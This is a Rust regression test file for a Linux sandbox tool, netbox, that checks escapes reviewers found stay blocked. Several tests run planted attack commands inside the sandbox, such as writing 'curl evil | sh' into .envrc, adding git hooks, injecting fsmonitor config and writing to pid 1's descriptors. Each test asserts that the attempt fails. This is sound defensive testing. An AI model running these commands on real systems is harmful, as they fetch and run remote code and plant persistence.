//! Regressions for escapes and failures independent reviews of the sandbox found, each
//! with the control that shows the test can tell the difference.

use std::time::Duration;

use crate::support::{netbox_bin, stderr, stdout, wait_for_path, Run, TestDir};

fn git_init(dir: &std::path::Path) {
    let out = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(dir)
        .output()
        .expect("git is needed for these tests");
    assert!(out.status.success());
}

#[test]
fn pid_1_holds_no_fd_cmd_could_borrow() {
    let dir = TestDir::new("pid1fds");
    let run = Run::new(&dir);
    let out = run.sh(
        "ls /proc/1/fd 2>&1 | head -3; for fd in 3 4 5 6 7 8; do echo FORGED >> /proc/1/fd/$fd 2>/dev/null && echo WROTE$fd; done; \
         cat /proc/1/environ >/dev/null 2>&1 && echo READ_ENVIRON; echo done",
    );
    let said = stdout(&out);
    assert!(said.ends_with("done\n"), "{said} {}", stderr(&out));
    assert!(!said.contains("WROTE"), "{said}");
    assert!(!said.contains("READ_ENVIRON"), "{said}");
    // The event log is intact: the probe record is there and nothing was forged into it
    // (the word appears only inside session_start's copy of the command).
    let log = std::fs::read_to_string(&run.log).unwrap();
    assert!(log.contains("\"type\":\"probe\""));
    for line in log.lines() {
        let record: serde_json::Value = serde_json::from_str(line).expect("only JSON records");
        assert!(
            record["type"] == "session_start" || !line.contains("FORGED"),
            "{line}"
        );
    }
    // Control: CMD's own /proc entries are readable.
    let out = run.sh("ls /proc/self/fd >/dev/null && echo ok");
    assert_eq!(stdout(&out), "ok\n");
}

#[test]
fn nested_and_shared_roots_keep_git_protected() {
    // --tmp host with the workspace under /tmp: /tmp is writable, .git must stay pinned.
    let dir = TestDir::new("tmphost");
    let logs = TestDir::outside_tmp("tmphost-log");
    let run = Run::new(&dir)
        .log_at(logs.join("events.jsonl"))
        .arg("--tmp")
        .arg("host");
    git_init(&run.workspace);
    let out =
        run.sh("echo pwned >> .git/config; echo x > .git/hooks/pre-commit; echo ok > plain.txt");
    assert!(!std::fs::read_to_string(run.workspace.join(".git/config"))
        .unwrap()
        .contains("pwned"));
    assert!(!run.workspace.join(".git/hooks/pre-commit").exists());
    assert!(run.workspace.join("plain.txt").exists(), "{}", stderr(&out));

    // --write of the workspace's parent: the same.
    let dir = TestDir::new("parentroot");
    let logs = TestDir::outside_tmp("parentroot-log");
    let run = Run::new(&dir)
        .log_at(logs.join("events.jsonl"))
        .arg("--write")
        .arg(dir.path.display().to_string());
    git_init(&run.workspace);
    run.sh("echo pwned >> .git/config");
    assert!(!std::fs::read_to_string(run.workspace.join(".git/config"))
        .unwrap()
        .contains("pwned"));
    // Control: the parent really is writable.
    let out = run.sh("echo ok > ../beside.txt && echo wrote");
    assert_eq!(stdout(&out), "wrote\n", "{}", stderr(&out));
}

#[test]
fn concurrent_runs_share_the_git_placeholder() {
    let dir = TestDir::new("concurrent");
    let run = Run::new(&dir).arg("--quiet");
    // Run A holds a placeholder .git for 2 s; run B starts inside that window and tries to
    // create a repository with a hook after A has ended.
    let mut first = run.command("sleep 2").spawn().unwrap();
    std::thread::sleep(Duration::from_millis(700));
    let second = run.command(
        "sleep 3; git init -q . 2>/dev/null; mkdir -p .git/hooks 2>/dev/null; \
         echo 'echo owned' > .git/hooks/pre-commit 2>/dev/null && echo PLANTED; echo done",
    );
    let out = {
        let mut second = second;
        second.output().unwrap()
    };
    assert!(first.wait().unwrap().success());
    assert_eq!(stdout(&out), "done\n", "{}", stderr(&out));
    assert!(!run.workspace.join(".git/hooks/pre-commit").exists());
    // The last run out removed the placeholder.
    assert!(!run.workspace.join(".git").exists());
}

#[test]
fn stale_placeholder_is_adopted_and_removed() {
    let dir = TestDir::new("stale");
    let run = Run::new(&dir).arg("--quiet");
    // A run killed with SIGKILL leaves its placeholders behind...
    let mut killed = run.command("sleep 30").spawn().unwrap();
    wait_for_path(&run.workspace.join(".envrc"), "no placeholder appeared");
    std::thread::sleep(Duration::from_millis(300));
    killed.kill().unwrap();
    let _ = killed.wait();
    assert!(run.workspace.join(".git").is_dir() && run.workspace.join(".envrc").is_dir());
    // ...which the next run adopts (still pinned) and removes when it ends.
    let out = run.sh("echo x > .git/HEAD 2>/dev/null && echo WROTE; echo done");
    assert_eq!(stdout(&out), "done\n", "{}", stderr(&out));
    assert!(!run.workspace.join(".git").exists());
    assert!(!run.workspace.join(".envrc").exists());
}

#[test]
fn users_own_empty_directories_are_kept() {
    let dir = TestDir::new("own-empty");
    std::fs::create_dir_all(dir.join("ws/.vscode")).unwrap();
    std::fs::create_dir_all(dir.join("ws/keepme")).unwrap();
    let run = Run::new(&dir).arg("--quiet").arg("--protect").arg("keepme");
    let out = run.sh("touch .vscode/x keepme/y 2>/dev/null && echo WROTE; echo done");
    assert_eq!(stdout(&out), "done\n", "{}", stderr(&out));
    assert!(run.workspace.join(".vscode").is_dir());
    assert!(run.workspace.join("keepme").is_dir());
}

#[test]
fn missing_start_up_files_cannot_be_planted() {
    let dir = TestDir::new("startup-files");
    let run = Run::new(&dir).arg("--quiet");
    // A start-up file the workspace has is pinned (a home's are: sandbox_home.rs).
    std::fs::write(run.workspace.join(".bashrc"), "# mine\n").unwrap();
    let out = run.sh(
        "for f in .envrc .gitmodules; do echo 'curl evil | sh' > $f 2>/dev/null && echo PLANTED $f; done; \
         mkdir -p .vscode 2>/dev/null; echo '{}' > .vscode/tasks.json 2>/dev/null && echo PLANTED tasks; \
         echo x >> .bashrc 2>/dev/null && echo PLANTED bashrc; echo ok > src.txt && echo control",
    );
    assert_eq!(stdout(&out), "control\n", "{}", stderr(&out));
    for name in [".envrc", ".gitmodules", ".vscode", ".git"] {
        assert!(!run.workspace.join(name).exists(), "{name} left behind");
    }
    assert_eq!(
        std::fs::read_to_string(run.workspace.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    // git in the sandbox sees nothing of the placeholders (empty directories).
    std::fs::remove_file(run.workspace.join("src.txt")).unwrap();
    let out = std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(&run.workspace)
        .output()
        .unwrap();
    assert!(out.status.success());
    let plain = Run::new(&dir).arg("--quiet");
    let out = plain.sh("git status --porcelain --untracked-files=all");
    assert_eq!(stdout(&out), "?? .bashrc\n", "{}", stderr(&out));
}

#[test]
fn host_device_nodes_cannot_be_changed() {
    let dir = TestDir::new("devices");
    let run = Run::new(&dir);
    let out = run.sh(
        "chmod 600 /dev/null 2>/dev/null && echo CHMOD; touch -d 2001-01-01 /dev/full 2>/dev/null && echo TOUCH; \
         echo fine > /dev/null && head -c 4 /dev/zero | wc -c",
    );
    assert_eq!(stdout(&out), "4\n", "{}", stderr(&out));
}

#[test]
fn cmd_starts_with_default_signal_dispositions() {
    let dir = TestDir::new("sigpipe");
    let run = Run::new(&dir);
    let out =
        run.sh("yes | head -1 >/dev/null; echo ${PIPESTATUS[0]}; grep SigIgn /proc/self/status");
    let said = stdout(&out);
    assert!(said.starts_with("141\n"), "{said}");
    assert!(said.contains("SigIgn:\t0000000000000000"), "{said}");
}

#[test]
fn leftovers_cannot_make_later_probes_fail() {
    let dir = TestDir::new("leftover");
    let run = Run::new(&dir).arg("--quiet");
    // Names a fixed-name probe would have used.
    let out =
        run.sh("for i in 1 2 3; do mkdir .netbox-probe-$i; done; mkdir $TMPDIR/.netbox-probe-1");
    assert!(out.status.success(), "{}", stderr(&out));
    let out = run.sh("echo still runs");
    assert_eq!(stdout(&out), "still runs\n", "{}", stderr(&out));
}

#[test]
fn a_file_can_be_a_writable_root_and_the_log_cannot_be_inside_one() {
    let dir = TestDir::new("fileroot");
    let notes = dir.write("notes.txt", "");
    let run = Run::new(&dir)
        .arg("--write")
        .arg(notes.display().to_string());
    let out = run.sh(&format!("echo line >> {}", notes.display()));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&notes).unwrap(), "line\n");

    let ws = dir.join("ws");
    let out = std::process::Command::new(netbox_bin())
        .args(["--log", "events.jsonl", "--", "true"])
        .current_dir(&ws)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(
        stderr(&out).contains("is inside the writable root"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn host_unix_sockets_are_refused_at_connect() {
    use std::os::unix::net::UnixListener;
    let dir = TestDir::new("sockets");
    let outside = TestDir::outside_tmp("sockets");
    let path = outside.join("host.sock");
    let listener = UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();
    let run = Run::new(&dir);
    // Also one inside the workspace (under /tmp, which is otherwise private), and one
    // whose path has a space in it.
    std::fs::create_dir(outside.join("my dir")).unwrap();
    let spaced = outside.join("my dir/agent.sock");
    let in_workspace = run.workspace.join("ide.sock");
    let others: Vec<UnixListener> = [&spaced, &in_workspace]
        .iter()
        .map(|p| UnixListener::bind(p).unwrap())
        .collect();
    for other in &others {
        other.set_nonblocking(true).unwrap();
    }
    for other in [&spaced, &in_workspace] {
        let out = run.sh(&format!(
            "curl -sS --max-time 5 --unix-socket '{}' http://host/; echo curl=$?",
            other.display()
        ));
        assert!(
            stdout(&out).contains("curl=7"),
            "{}: {} {}",
            other.display(),
            stdout(&out),
            stderr(&out)
        );
    }
    // The file is still the host's socket in the sandbox (nothing covers it): the connect
    // is what is refused, and logged.
    let out = run.sh(&format!(
        "curl -sS --max-time 5 --unix-socket {} http://host/; echo curl=$?; test -S {} && echo STILL_A_SOCKET; echo done",
        path.display(),
        path.display()
    ));
    let said = stdout(&out);
    assert!(said.contains("curl=7"), "{said} {}", stderr(&out));
    assert!(said.contains("STILL_A_SOCKET"), "{said}");
    assert!(
        listener.accept().is_err(),
        "the sandbox reached the host socket"
    );
    assert!(others.iter().all(|o| o.accept().is_err()));
    let logged: Vec<String> = run
        .events()
        .into_iter()
        .filter(|e| e["type"] == "direct_attempt" && e["protocol"] == "unix")
        .map(|e| e["address"].as_str().unwrap().to_owned())
        .collect();
    let mut expected: Vec<String> = [&spaced, &in_workspace, &path]
        .iter()
        .map(|p| p.display().to_string())
        .collect();
    expected.sort();
    let mut logged = logged;
    logged.sort();
    assert_eq!(logged, expected);
    // Control: the socket answers from outside.
    let _client = std::os::unix::net::UnixStream::connect(&path).unwrap();
    std::thread::sleep(Duration::from_millis(50));
    assert!(listener.accept().is_ok());
}

#[test]
fn a_host_socket_restarted_during_the_run_neither_stops_it_nor_opens() {
    use std::os::unix::net::UnixListener;
    let dir = TestDir::new("socket-restart");
    let outside = TestDir::outside_tmp("socket-restart");
    let path = outside.join("svc.sock");
    let listener = UnixListener::bind(&path).unwrap();
    let run = Run::new(&dir);
    // CMD tries the socket once a second for 10 s, while the host removes and re-binds
    // it three times (a service restarting): the run goes on to its end, and every try
    // is refused.
    let child = run
        .command(&format!(
            "for i in $(seq 10); do python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.settimeout(2)\ntry:\n    s.connect('{}'); print('REACHED')\nexcept OSError as e:\n    print('refused', e.errno)\"; sleep 1; done; echo finished",
            path.display()
        ))
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut current = listener;
    for _ in 0..3 {
        std::thread::sleep(Duration::from_millis(2500));
        drop(current);
        std::fs::remove_file(&path).unwrap();
        current = UnixListener::bind(&path).unwrap();
    }
    current.set_nonblocking(true).unwrap();
    let out = child.wait_with_output().unwrap();
    let said = stdout(&out);
    assert_eq!(out.status.code(), Some(0), "{said} {}", stderr(&out));
    assert!(said.ends_with("finished\n"), "{said}");
    assert!(!said.contains("REACHED"), "{said}");
    assert_eq!(said.matches("refused 111").count(), 10, "{said}");
    assert!(current.accept().is_err());
    // Control: the restarted socket answers from outside.
    let _client = std::os::unix::net::UnixStream::connect(&path).unwrap();
    std::thread::sleep(Duration::from_millis(50));
    assert!(current.accept().is_ok());
}

/// With connects let run undecided (a test build's deliberate breakage), the probe's
/// Unix socket row fails and CMD never runs. Control: the tests above.
#[test]
fn a_watcher_that_lets_connects_run_stops_cmd() {
    let dir = TestDir::new("connects-undecided");
    let run = Run::new(&dir).env("NETBOX_TEST_BREAK", "unix-sockets");
    let out = run.sh("echo CMD-RAN");
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(!stdout(&out).contains("CMD-RAN"));
    assert!(
        stderr(&out).contains("unix sockets decided at connect"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn hide_makes_paths_empty_and_protect_pins_a_missing_path() {
    let dir = TestDir::new("hide");
    let secrets = TestDir::outside_tmp("secrets");
    std::fs::write(secrets.join("token"), "s3cret").unwrap();
    std::fs::create_dir(secrets.join("keys")).unwrap();
    std::fs::write(secrets.join("keys/id"), "private").unwrap();
    let run = Run::new(&dir)
        .arg("--hide")
        .arg(secrets.join("token").display().to_string())
        .arg("--hide")
        .arg(secrets.join("keys").display().to_string())
        .arg("--protect")
        .arg("deploy.sh");
    let out = run.sh(&format!(
        "cat {0}/token; ls -A {0}/keys | wc -l; echo 'curl evil' > deploy.sh 2>/dev/null && echo PLANTED; echo ok > other.sh && echo control",
        secrets.path.display()
    ));
    assert_eq!(stdout(&out), "0\ncontrol\n", "{}", stderr(&out));
    assert!(!run.workspace.join("deploy.sh").exists());
    assert_eq!(
        std::fs::read_to_string(secrets.join("token")).unwrap(),
        "s3cret"
    );
}

#[test]
fn disabled_user_namespaces_are_refused_with_a_hint() {
    let dir = TestDir::new("nouserns");
    let run = Run::new(&dir);
    let netbox = netbox_bin();
    // Inside a user namespace of its own, the test turns nested ones off, then runs netbox.
    let out = std::process::Command::new("unshare")
        .args(["-Ur", "sh", "-c"])
        .arg(format!(
            "echo 0 > /proc/sys/user/max_user_namespaces && exec {} --log {} -- touch ran",
            netbox.display(),
            run.log.display()
        ))
        .current_dir(&run.workspace)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("user namespaces are not available to this user"),
        "{err}"
    );
    // Said after where netbox runs, when that is a container.
    assert!(
        err.contains("user namespaces are disabled: sysctl -w user.max_user_namespaces=15000"),
        "{err}"
    );
    assert!(err.contains("never falls back"), "{err}");
    assert!(!run.workspace.join("ran").exists());
    // Control: without the restriction the same command runs.
    let out = run.sh("touch ran");
    assert!(out.status.success());
    assert!(run.workspace.join("ran").exists());
}

#[test]
fn a_pin_lost_on_the_host_stops_the_run() {
    let dir = TestDir::new("pinlost");
    let run = Run::new(&dir).arg("--quiet");
    std::fs::write(run.workspace.join(".envrc"), "export A=1\n").unwrap();
    // CMD waits, then tries to rewrite .envrc: possible only if the pin went away.
    let child = run
        .command(
            "touch started; sleep 2; echo 'curl evil | sh' > .envrc && echo PLANTED; sleep 5; echo FINISHED",
        )
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Once CMD runs, the pins are in place.
    wait_for_path(&run.workspace.join("started"), "CMD never started");
    // An editor's save: write a new file, rename it over the old one.
    std::fs::write(run.workspace.join(".envrc.new"), "export A=2\n").unwrap();
    std::fs::rename(
        run.workspace.join(".envrc.new"),
        run.workspace.join(".envrc"),
    )
    .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("was removed or replaced on the host"),
        "{}",
        stderr(&out)
    );
    assert!(!stdout(&out).contains("PLANTED"));
    assert!(!stdout(&out).contains("FINISHED"));
    assert_eq!(
        std::fs::read_to_string(run.workspace.join(".envrc")).unwrap(),
        "export A=2\n"
    );
    // Control: the same run, untouched, finishes.
    let out = run.sh("echo FINISHED");
    assert_eq!(stdout(&out), "FINISHED\n");
}

#[test]
fn allow_git_writes_lets_objects_and_refs_through_but_not_code() {
    let dir = TestDir::new("gitwrites");
    let run = Run::new(&dir).arg("--quiet").arg("--allow-git-writes");
    git_init(&run.workspace);
    std::fs::write(run.workspace.join("f.txt"), "one\n").unwrap();
    // Control: a commit from inside, made without the index (which stays read-only,
    // see sandbox_git.rs), lands on a branch of its own (moving the one HEAD names takes
    // HEAD's lock, at the read-only top of the git directory).
    let out = run.sh(
        "blob=$(git hash-object -w f.txt) && tree=$(printf '100644 blob %s\\tf.txt\\n' $blob | git mktree) && \
         commit=$(git -c user.email=t@test -c user.name=t commit-tree $tree -m inside) && \
         git update-ref refs/heads/inside $commit && echo COMMITTED",
    );
    assert_eq!(stdout(&out), "COMMITTED\n", "{}", stderr(&out));
    // What runs code, or redirects git to code, stays out of reach.
    let out = run.sh(
        "echo 'echo owned' > .git/hooks/pre-commit 2>/dev/null && echo HOOK; \
         echo '[core] fsmonitor = touch PWNED' >> .git/config 2>/dev/null && echo CONFIG; \
         echo ../evil > .git/commondir 2>/dev/null && echo COMMONDIR; echo done",
    );
    assert_eq!(stdout(&out), "done\n", "{}", stderr(&out));
    assert!(
        !run.workspace.join(".git/commondir").exists(),
        "placeholder left behind"
    );
    assert!(!run.workspace.join(".git/hooks/pre-commit").exists());
    let log = std::process::Command::new("git")
        .args(["log", "--oneline", "inside"])
        .current_dir(&run.workspace)
        .output()
        .unwrap();
    assert!(stdout(&log).contains("inside"), "{}", stdout(&log));
}

#[test]
fn a_pin_lost_after_signals_still_stops_the_run() {
    let dir = TestDir::new("pinlost-signals");
    let run = Run::new(&dir).arg("--quiet");
    // CMD makes pid 1 read signals first (SIGCHLD from an orphan, one sent by hand), then
    // waits for the host to drop a pin.
    let child = run
        .command(
            "(true &); kill -CHLD 1; touch started; sleep 2; echo 'curl evil | sh' > .envrc && echo PLANTED; echo FINISHED",
        )
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    wait_for_path(&run.workspace.join("started"), "CMD never started");
    std::thread::sleep(Duration::from_millis(200));
    std::fs::remove_dir(run.workspace.join(".envrc")).unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    assert!(!stdout(&out).contains("PLANTED"), "{}", stdout(&out));
    assert!(!run.workspace.join(".envrc").exists());
}

#[test]
fn git_dir_cannot_be_renamed_away_under_allow_git_writes() {
    let dir = TestDir::new("gitrename");
    let run = Run::new(&dir).arg("--quiet").arg("--allow-git-writes");
    git_init(&run.workspace);
    let before = std::fs::read_to_string(run.workspace.join(".git/config")).unwrap();
    let out = run.sh(
        "mv .git .git-old 2>/dev/null && echo MOVED; \
         mkdir -p .git/hooks 2>/dev/null; printf '[core]\\n\\thooksPath = /tmp/evil\\n' > .git/config 2>/dev/null && echo WROTE; \
         echo x > .git/objects/probe && echo OBJECTS_WRITABLE",
    );
    assert_eq!(stdout(&out), "OBJECTS_WRITABLE\n", "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(run.workspace.join(".git/config")).unwrap(),
        before
    );
    assert!(!run.workspace.join(".git-old").exists());
}

#[test]
fn writable_roots_the_sandbox_replaces_are_refused_up_front() {
    let dir = TestDir::new("hidden-roots");
    for root in ["/dev/shm", "/proc/self", "/run", "/sys/kernel"] {
        let run = Run::new(&dir).arg("--write").arg(root);
        let out = run.sh("touch ran");
        assert_eq!(out.status.code(), Some(125), "{root}: {}", stderr(&out));
        assert!(
            stderr(&out).contains("cannot be a writable root"),
            "{root}: {}",
            stderr(&out)
        );
        assert!(!run.workspace.join("ran").exists());
    }
    // Control: a writable root elsewhere is fine.
    let extra = dir.join("extra");
    std::fs::create_dir_all(&extra).unwrap();
    let run = Run::new(&dir)
        .arg("--write")
        .arg(extra.display().to_string());
    let out = run.sh(&format!("touch {}/ran && echo ok", extra.display()));
    assert_eq!(stdout(&out), "ok\n", "{}", stderr(&out));
}

#[test]
fn a_working_directory_the_sandbox_hides_is_one_clear_error() {
    // Started in a directory under the host's /tmp, outside the workspace: the sandbox's
    // private /tmp does not show it. CMD must not start, and the error must say why.
    let dir = TestDir::new("hiddencwd");
    let elsewhere = dir.join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    let run = Run::new(&dir);
    let workspace = run.workspace.display().to_string();
    let run = run.args_from(&["--workspace", &workspace]);
    let marker = run.workspace.join("ran");
    let mut cmd = run.command(&format!("touch {}", marker.display()));
    let out = cmd.current_dir(&elsewhere).output().unwrap();
    assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
    let said = stderr(&out);
    assert!(
        said.contains(&format!(
            "the working directory {} cannot be entered inside the sandbox",
            elsewhere.display()
        )) && said.contains("--tmp host"),
        "{said}"
    );
    assert!(!marker.exists(), "CMD ran");
    // Control: started in the workspace, the same command runs.
    let out = run
        .command(&format!("touch {}", marker.display()))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(marker.exists());
}

/// A socket bound in another network namespace (a container's, a
/// `PrivateNetwork=` service's, another sandbox's) is listed only in that namespace's
/// /proc/net/unix, yet any namespace can connect to it: it is covered too.
#[test]
fn sockets_bound_in_other_network_namespaces_are_refused() {
    let dir = TestDir::new("netns-socket");
    let outside = TestDir::outside_tmp("netns-socket");
    let path = outside.join("other-netns.sock");
    let ready = outside.join("ready");
    // A listener in a network namespace of its own (a user namespace makes that possible
    // without root), answering "hello" to whoever connects.
    let mut other = std::process::Command::new("unshare")
        .args(["-rn", "python3", "-c"])
        .arg(format!(
            "import socket, time\n\
             s = socket.socket(socket.AF_UNIX); s.bind({path:?}); s.listen()\n\
             open({ready:?}, 'w').close()\n\
             s.settimeout(20)\n\
             try:\n    while True:\n        c, _ = s.accept(); c.sendall(b'hello'); c.close()\n\
             except OSError:\n    pass\n",
            path = path.display().to_string(),
            ready = ready.display().to_string(),
        ))
        .spawn()
        .unwrap();
    wait_for_path(&ready, "the other namespace's listener never started");
    let netns_own = std::fs::read_to_string("/proc/self/net/unix").unwrap();
    assert!(
        !netns_own.contains("other-netns.sock"),
        "not another namespace's"
    );
    let run = Run::new(&dir);
    let out = run.sh(&format!(
        "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}'); print(s.recv(5))\" 2>&1 | tail -1",
        path.display()
    ));
    let said = stdout(&out);
    assert!(
        said.contains("ConnectionRefusedError"),
        "{said} {}",
        stderr(&out)
    );
    assert!(run
        .events()
        .iter()
        .any(|e| e["type"] == "direct_attempt" && e["address"] == path.display().to_string()));
    // Control: from outside the sandbox, the same socket answers.
    let mut client = std::os::unix::net::UnixStream::connect(&path).unwrap();
    let mut hello = [0u8; 5];
    std::io::Read::read_exact(&mut client, &mut hello).unwrap();
    assert_eq!(&hello, b"hello");
    let _ = other.kill();
    let _ = other.wait();
}

/// A host file given as standard input could be opened
/// again for writing through /proc/self/fd/0 (the host's writable mount), whatever the
/// sandbox's mounts say. It now reaches CMD through a pipe.
#[test]
fn a_file_given_as_stdin_cannot_be_rewritten() {
    let dir = TestDir::new("stdin-file");
    let outside = TestDir::outside_tmp("stdin-file");
    let input = outside.join("input.txt");
    std::fs::write(&input, "original\n").unwrap();
    let run = Run::new(&dir).arg("--quiet");
    let out = run
        .command("cat; echo PWNED > /dev/stdin; echo PWNED > /proc/self/fd/0; echo done")
        .stdin(std::fs::File::open(&input).unwrap())
        .output()
        .unwrap();
    // Control: CMD reads the file as its input.
    assert_eq!(stdout(&out), "original\ndone\n", "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&input).unwrap(), "original\n");
}
